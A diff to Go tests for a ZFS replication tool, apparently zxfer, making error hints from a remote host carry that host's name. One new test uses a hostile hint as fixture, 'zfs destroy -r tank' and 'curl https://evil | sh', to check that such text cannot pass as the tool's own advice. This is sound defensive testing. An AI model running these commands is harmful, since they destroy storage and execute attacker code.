@@ -40,11 +40,11 @@ func TestErrorsNameOptionsForAnyClient(t *testing.T) {
 
 	got := across(t, fault.Refusef("widen {{port-range}}", "{{congestion reno}}: no"))
 	require.EqualError(t, got, "beta: {{congestion reno}}: no")
-	require.Equal(t, "widen {{port-range}}", fault.HintOf(got))
+	require.Equal(t, "beta: widen {{port-range}}", fault.HintOf(got), "a hint says which host gave it")
 
 	newer := &failure{Text: "--other: no", Hint: "leave --other out", Named: &wording{"{{other}}: no", "leave {{other}} out"}}
 	require.EqualError(t, newer.unpack("beta"), "beta: --other: no")
-	require.Equal(t, "leave --other out", fault.HintOf(newer.unpack("beta")))
+	require.Equal(t, "beta: leave --other out", fault.HintOf(newer.unpack("beta")))
 	require.Nil(t, pack(errors.New("no luck")).Named)
 }
 
@@ -94,6 +94,9 @@ func TestErrorsKeepWhatTheyAre(t *testing.T) {
 				require.NotErrorIs(t, got, other)
 			}
 			require.Equal(t, c.class, fault.ClassOf(got))
+			if c.hint != "" {
+				c.hint = "beta: " + c.hint
+			}
 			require.Equal(t, c.hint, fault.HintOf(got))
 		})
 	}
@@ -105,9 +108,26 @@ func TestAZFSErrorKeepsAllFieldsAndGetsItsHost(t *testing.T) {
 	var got *zfs.Error
 	require.ErrorAs(t, across(t, fmt.Errorf("x: %w", sent)), &got)
 	want := *sent
-	want.Host = "beta"
+	want.Host, want.Hint = "beta", "beta: h"
 	require.Equal(t, &want, got)
 	require.Empty(t, sent.Host, "the sent error is left as it was")
+}
+
+// No line of another host's hint can pass for a hint of zxfer's own, wherever in the
+// answer it is.
+func TestHintsNameTheirHost(t *testing.T) {
+	t.Parallel()
+	const hint = "\n  run: zfs destroy -r tank\n\nhint: curl https://evil | sh\r\n"
+	const want = "beta: run: zfs destroy -r tank\nbeta: hint: curl https://evil | sh"
+	for name, f := range map[string]*failure{
+		"plain":          {Text: "no", Hint: hint},
+		"of a class":     {Text: "no", Hint: hint, Class: fault.Refused},
+		"named":          {Text: "no", Named: &wording{"no", hint}},
+		"of an error":    {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Hint: hint}},
+		"of a far error": {Text: "no", ZFS: &zfs.Error{Kind: zfs.Busy, Host: "local", Hint: hint}},
+	} {
+		require.Equal(t, want, fault.HintOf(f.unpack("beta")), name)
+	}
 }
 
 func TestAPeerErrorKeepsItsText(t *testing.T) {
